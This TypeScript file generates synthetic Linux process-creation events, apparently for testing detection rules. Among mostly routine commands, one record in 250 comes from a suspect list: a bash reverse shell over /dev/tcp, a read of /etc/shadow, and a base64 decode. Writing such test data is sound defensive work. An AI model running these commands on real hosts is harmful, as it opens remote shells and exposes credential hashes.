import { clock, fill, type Logged, pick, series } from './text.ts'

/** Image and command lines, as a Linux host with services and builds starts them. */
const PROGRAMS: readonly (readonly [image: string, ...lines: readonly string[]])[] = [
  ['/usr/bin/bash', 'bash -lc "make {word}"', '/bin/bash /usr/local/bin/{word}.sh --once', '-bash'],
  ['/usr/bin/dash', 'sh -c "run-parts --report /etc/cron.hourly"', '/bin/sh -c /usr/lib/{word}/check {d4}'],
  ['/usr/bin/grep', 'grep -E ^{word}= /etc/default/{word}', 'grep -c processor /proc/cpuinfo'],
  ['/usr/bin/date', 'date +%s'],
  ['/usr/bin/sort', 'sort -u /tmp/{word}.{d4}'],
  ['/usr/bin/gzip', 'gzip -9 /var/log/{word}/{word}.log.1'],
  ['/usr/sbin/ip', 'ip -j addr show dev eth0'],
  ['/usr/bin/sed', 'sed -n 1,20p /var/log/{word}.log'],
  ['/usr/bin/awk', 'awk {print $1} /tmp/{word}.{d4}'],
  ['/usr/bin/cat', 'cat /sys/class/net/eth0/statistics/rx_bytes'],
  ['/usr/bin/python3.12', 'python3 -m {word} --config /etc/{word}/config.toml', 'python3 /opt/{word}/worker.py --queue default'],
  ['/usr/bin/node', 'node /srv/{word}/dist/server.js --port {d4}'],
  ['/usr/bin/git', 'git -C /srv/{word} rev-parse HEAD', 'git fetch --prune origin'],
  ['/usr/sbin/logrotate', '/usr/sbin/logrotate /etc/logrotate.conf'],
  ['/usr/bin/tar', 'tar -czf /backup/{word}-{d6}.tgz -C /srv {word}'],
  ['/usr/bin/systemctl', 'systemctl is-active {word}.service'],
  ['/usr/bin/docker', 'docker inspect --format json {h32}'],
  ['/usr/sbin/cron', '/usr/sbin/CRON -f'],
  ['/usr/sbin/sshd', 'sshd: {user} [priv]'],
]
const SUSPECT: readonly (readonly [image: string, ...lines: readonly string[]])[] = [
  ['/usr/bin/bash', 'bash -c "bash -i >& /dev/tcp/{net}/443 0>&1"'],
  ['/usr/bin/cat', 'cat /etc/shadow'],
  ['/usr/bin/base64', 'base64 -d /tmp/{word}.b64'],
]

/** Process creations as Sysmon for Linux or auditd give them, about 0.7 kB each; one in 250 is what rules are for. */
export const linuxProcesses = (count: number, seed = 21): readonly Logged[] =>
  series(count, seed, (random, at) => {
    const [image, ...lines] = at % 250 === 249 ? pick(random, SUSPECT) : pick(random, PROGRAMS)
    const [parent, ...parentLines] = pick(random, PROGRAMS)
    return {
      logsource: { product: 'linux', category: 'process_creation' },
      record: {
        EventID: 1,
        UtcTime: clock(at),
        Computer: fill('{word}-{d4}', random),
        ProcessGuid: fill('{guid}', random),
        ProcessId: Math.floor(random() * 60_000),
        Image: image,
        CommandLine: fill(pick(random, lines), random),
        CurrentDirectory: fill(pick(random, ['/', '/srv/{word}', '/home/{user}']), random),
        User: fill(pick(random, ['root', '{user}', 'www-data']), random),
        LogonId: Math.floor(random() * 2_000),
        TerminalSessionId: Math.floor(random() * 300),
        IntegrityLevel: 'no level',
        Hashes: fill('SHA256={h64}', random),
        ParentProcessGuid: fill('{guid}', random),
        ParentProcessId: Math.floor(random() * 60_000),
        ParentImage: parent,
        ParentCommandLine: fill(pick(random, parentLines), random),
        ParentUser: fill('{user}', random),
      },
    }
  })
